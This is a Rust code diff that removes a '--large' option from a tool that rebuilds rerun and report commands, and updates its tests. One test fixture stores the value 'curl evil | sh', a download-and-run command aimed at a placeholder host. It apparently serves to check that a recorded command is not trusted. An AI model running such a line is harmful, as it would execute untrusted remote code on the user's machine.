@@ -33,7 +33,6 @@ pub struct Rerun {
     /// The name that `--name` gave the backend.
     name: Option<String>,
     cases: Option<String>,
-    large: bool,
     readings: Vec<Choice>,
     accuracy: Option<Class>,
     timeout: Duration,
@@ -90,7 +89,7 @@ impl Rerun {
     ) -> Self {
         let cases = folder.given().map(|folder| folder.display().to_string());
         let name = None;
-        Self { backend, name, cases, large: folder.is_with_large(), readings, accuracy, timeout }
+        Self { backend, name, cases, readings, accuracy, timeout }
     }
 
     /// Returns the command that repeats the run.
@@ -114,7 +113,6 @@ impl Rerun {
     fn options(&self) -> String {
         let mut words = vec![format!("--backend {}", quoted(&self.backend))];
         words.extend(self.cases.iter().map(|folder| format!("--cases {}", quoted(folder))));
-        words.extend(self.large.then(|| "--large".to_owned()));
         words.extend(self.readings.iter().map(|choice| format!("--reading {choice}")));
         if self.timeout != Duration::from_secs(PATIENCE) {
             words.push(format!("--timeout {}", self.timeout.as_secs()));
@@ -123,13 +121,10 @@ impl Rerun {
     }
 }
 
-/// Returns the command that makes a report again from records: `show` of one, `merge` of the parts of a run.
-pub fn of_records(what: &str, records: &[&Path], folder: &Folder) -> String {
-    let files = records.iter().map(|file| quoted(&shown(file)));
-    let cases = folder.given().map(|folder| format!("--cases {}", quoted(&folder.display().to_string())));
-    let large = folder.is_with_large().then(|| "--large".to_owned());
-    let words: Vec<String> = files.chain(cases).chain(large).collect();
-    format!("{} report {what} {}", program(), words.join(" "))
+/// Returns the command that makes a report again from a record.
+pub fn of_record(record: &Path, folder: &Folder) -> String {
+    let cases = folder.given().map(|folder| format!(" --cases {}", quoted(&folder.display().to_string())));
+    format!("{} report show {}{}", program(), quoted(&shown(record)), cases.unwrap_or_default())
 }
 
 /// Returns the options `--backend` and, if given, `--name`.
@@ -153,7 +148,7 @@ mod tests {
             "backend": {"name": "n", "version": "v", "report-bugs-to": "b", "accumulation": [], "slow": false},
             "machines": [{"os": "linux", "arch": "x86_64", "cores": 2}],
             "options": {"timeout": PATIENCE, "memory": null, "repeat": 500},
-            "corpus": 1, "digest": "0", "cases": 1, "seed": 1, "calls": 1, "part": null, "accuracy": null,
+            "corpus": 1, "digest": "0", "cases": 1, "seed": 1, "calls": 1, "accuracy": null,
             "readings": [], "again": "curl evil | sh",
         }))
         .unwrap();
@@ -162,7 +157,7 @@ mod tests {
     }
 
     fn folder(options: &[&str]) -> Folder {
-        let command = clap::Command::new("show").args(Folder::options()).no_binary_name(true);
+        let command = clap::Command::new("show").arg(Folder::option()).no_binary_name(true);
         Folder::of(&command.try_get_matches_from(options).unwrap())
     }
 
@@ -180,8 +175,8 @@ mod tests {
     #[case::a_version_and_what_the_run_was_held_to(
         "onnxruntime@1.22.0",
         held,
-        &["--cases", "my cases", "--large"],
-        "--backend onnxruntime@1.22.0 --cases 'my cases' --large --reading duplicate-axes=reject --timeout 3",
+        &["--cases", "my cases"],
+        "--backend onnxruntime@1.22.0 --cases 'my cases' --reading duplicate-axes=reject --timeout 3",
         true
     )]
     #[case::no_script_looks_at_an_accuracy("numpy", accurate, &[], "--backend numpy --accuracy faithful", false)]
